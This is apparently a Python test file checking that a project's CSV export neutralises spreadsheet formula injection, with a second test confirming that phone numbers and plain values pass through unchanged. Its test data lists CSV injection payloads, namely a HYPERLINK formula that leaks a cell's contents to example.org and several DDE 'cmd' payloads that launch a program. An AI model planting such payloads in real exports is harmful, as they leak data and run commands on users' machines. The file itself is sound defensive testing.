"""Cells of an exported CSV never run as formulas in the spreadsheet that opens them."""

from __future__ import annotations

import csv
import io

from safepassage.services.outputs import _csv, inert


def test_formula_cells_in_a_csv_export_come_out_as_text() -> None:
    hostile = [
        '=HYPERLINK("http://example.org/?d="&A2,"Ahmad")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\uff1d1+1",
    ]
    body = _csv(["Name"], [[h] for h in hostile]).decode("utf-8-sig")
    cells = [r[0] for r in csv.reader(io.StringIO(body))][1:]
    assert cells == ["'" + h for h in hostile]  # each kept whole, as text


def test_phone_numbers_and_plain_numbers_are_left_as_they_are() -> None:
    for value in ("+93 799 123 456", "+93 (0)799-123", "-5", "Ahmad", "", 42, None):
        assert inert(value) == value
